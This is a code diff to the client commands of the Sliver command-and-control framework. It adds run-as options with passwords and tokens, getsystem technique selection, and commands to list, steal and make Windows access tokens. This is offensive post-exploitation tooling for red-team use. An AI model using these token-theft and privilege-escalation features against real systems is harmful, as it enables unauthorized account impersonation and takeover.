@@ -3,6 +3,10 @@ package command
 import (
 	"context"
 	"fmt"
+	"os"
+	"strconv"
+	"strings"
+	"text/tabwriter"
 
 	"github.com/bishopfox/sliver/client/spin"
 	"github.com/bishopfox/sliver/protobuf/clientpb"
@@ -11,6 +15,10 @@ import (
 	"github.com/desertbit/grumble"
 )
 
+const (
+	getSystemInjectTechnique = "inject"
+)
+
 func runAs(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 	session := ActiveSession.Get()
 	if session == nil {
@@ -19,22 +27,42 @@ func runAs(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 	username := ctx.Flags.String("username")
 	process := ctx.Flags.String("process")
 	arguments := ctx.Flags.String("args")
-
-	if username == "" {
-		fmt.Printf(Warn + "please specify a username\n")
-		return
-	}
+	password := ctx.Flags.String("password")
+	useToken := ctx.Flags.Bool("use-token")
 
 	if process == "" {
 		fmt.Printf(Warn + "please specify a process path\n")
 		return
 	}
+	if session.OS == "windows" {
+		if useToken && password != "" {
+			fmt.Printf(Warn + "--use-token and --password are mutually exclusive\n")
+			return
+		}
+		if username == "" && !useToken {
+			username = "NT AUTHORITY\\SYSTEM"
+		}
+	} else {
+		if useToken || ctx.Flags.Bool("netonly") {
+			fmt.Printf(Warn + "--use-token and --netonly are only supported on Windows\n")
+			return
+		}
+		if username == "" {
+			username = "root"
+		}
+	}
 
 	runAsResp, err := rpc.RunAs(context.Background(), &sliverpb.RunAsReq{
 		Request:     ActiveSession.Request(ctx),
 		Username:    username,
 		ProcessName: process,
 		Args:        arguments,
+		Password:    password,
+		Domain:      ctx.Flags.String("domain"),
+		NetOnly:     ctx.Flags.Bool("netonly"),
+		UseToken:    useToken,
+		Method:      ctx.Flags.String("method"),
+		Background:  ctx.Flags.Bool("background"),
 	})
 
 	if err != nil {
@@ -47,7 +75,11 @@ func runAs(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 		return
 	}
 
-	fmt.Printf(Info+"Sucessfully ran %s %s on %s\n", process, arguments, session.GetName())
+	fmt.Printf(Info+"Started %s (pid %d) as %s on %s\n", process, runAsResp.Pid, runAsResp.Username, session.GetName())
+	if runAsResp.Output != "" {
+		fmt.Println()
+		fmt.Print(runAsResp.Output)
+	}
 }
 
 func impersonate(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
@@ -98,14 +130,16 @@ func getsystem(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 		return
 	}
 	process := ctx.Flags.String("process")
+	technique := ctx.Flags.String("technique")
 	config := getActiveSliverConfig()
 	ctrl := make(chan bool)
-	go spin.Until("Attempting to create a new sliver session as 'NT AUTHORITY\\SYSTEM'...", ctrl)
+	go spin.Until("Attempting to elevate to 'NT AUTHORITY\\SYSTEM'...", ctrl)
 
 	getsystemResp, err := rpc.GetSystem(context.Background(), &clientpb.GetSystemReq{
 		Request:        ActiveSession.Request(ctx),
 		Config:         config,
 		HostingProcess: process,
+		Technique:      technique,
 	})
 
 	ctrl <- true
@@ -115,9 +149,102 @@ func getsystem(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 		fmt.Printf(Warn+"Error: %v", err)
 		return
 	}
+	for _, attempt := range getsystemResp.Attempts {
+		if attempt.Err != "" {
+			fmt.Printf(Warn+"%s: %s\n", attempt.Technique, attempt.Err)
+		}
+	}
 	if getsystemResp.GetResponse().GetErr() != "" {
 		fmt.Printf(Warn+"Error: %s\n", getsystemResp.GetResponse().GetErr())
 		return
 	}
-	fmt.Printf("\n" + Info + "A new SYSTEM session should pop soon...\n")
+	if getsystemResp.Technique == getSystemInjectTechnique {
+		fmt.Printf("\n" + Info + "A new SYSTEM session should pop soon...\n")
+	} else {
+		fmt.Printf("\n"+Info+"Session is now impersonating NT AUTHORITY\\SYSTEM (%s)\n", getsystemResp.Technique)
+	}
+}
+
+func tokens(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	session := ActiveSession.Get()
+	if session == nil {
+		return
+	}
+	tokens, err := rpc.ListTokens(context.Background(), &sliverpb.ListTokensReq{
+		Request: ActiveSession.Request(ctx),
+	})
+	if err != nil {
+		fmt.Printf(Warn+"Error: %v\n", err)
+		return
+	}
+	if len(tokens.Tokens) == 0 {
+		fmt.Printf(Info + "No tokens\n")
+		return
+	}
+	table := tabwriter.NewWriter(os.Stdout, 0, 2, 2, ' ', 0)
+	fmt.Fprintf(table, "pid\texecutable\tusername\tintegrity\t\n")
+	fmt.Fprintf(table, "%s\t%s\t%s\t%s\t\n",
+		strings.Repeat("=", len("pid")),
+		strings.Repeat("=", len("executable")),
+		strings.Repeat("=", len("username")),
+		strings.Repeat("=", len("integrity")))
+	for _, token := range tokens.Tokens {
+		fmt.Fprintf(table, "%d\t%s\t%s\t%s\t\n", token.Pid, token.Executable, token.Username, token.IntegrityLevel)
+	}
+	table.Flush()
+}
+
+func stealToken(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	session := ActiveSession.Get()
+	if session == nil {
+		return
+	}
+	if len(ctx.Args) != 1 {
+		fmt.Printf(Warn + "You must provide a pid. See `help steal-token`\n")
+		return
+	}
+	pid, err := strconv.ParseUint(ctx.Args[0], 10, 32)
+	if err != nil {
+		fmt.Printf(Warn+"Invalid pid '%s'\n", ctx.Args[0])
+		return
+	}
+	stealTokenResp, err := rpc.StealToken(context.Background(), &sliverpb.StealTokenReq{
+		Request: ActiveSession.Request(ctx),
+		Pid:     uint32(pid),
+	})
+	if err != nil {
+		fmt.Printf(Warn+"Error: %v\n", err)
+		return
+	}
+	fmt.Printf(Info+"Successfully impersonated %s\n", stealTokenResp.Username)
+}
+
+func makeToken(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	session := ActiveSession.Get()
+	if session == nil {
+		return
+	}
+	username := ctx.Flags.String("username")
+	password := ctx.Flags.String("password")
+	if username == "" || password == "" {
+		fmt.Printf(Warn + "You must provide a username and password. See `help make-token`\n")
+		return
+	}
+	interactive := ctx.Flags.Bool("interactive")
+	makeTokenResp, err := rpc.MakeToken(context.Background(), &sliverpb.MakeTokenReq{
+		Request:     ActiveSession.Request(ctx),
+		Username:    username,
+		Domain:      ctx.Flags.String("domain"),
+		Password:    password,
+		Interactive: interactive,
+	})
+	if err != nil {
+		fmt.Printf(Warn+"Error: %v\n", err)
+		return
+	}
+	if interactive {
+		fmt.Printf(Info+"Successfully impersonated %s\n", makeTokenResp.Username)
+	} else {
+		fmt.Printf(Info+"Successfully impersonated %s (network only)\n", makeTokenResp.Username)
+	}
 }